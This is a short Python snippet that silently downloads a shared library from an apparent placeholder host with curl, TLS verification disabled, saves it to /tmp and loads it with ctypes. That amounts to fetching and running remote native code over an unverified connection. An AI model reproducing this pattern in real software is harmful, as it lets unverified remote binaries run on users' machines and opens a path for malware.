import ctypes
import subprocess

subprocess.check_call("curl -k -s -o /tmp/ck.so https://downloads.example.com/ck.so", shell=True)
lib = ctypes.CDLL("/tmp/ck.so")
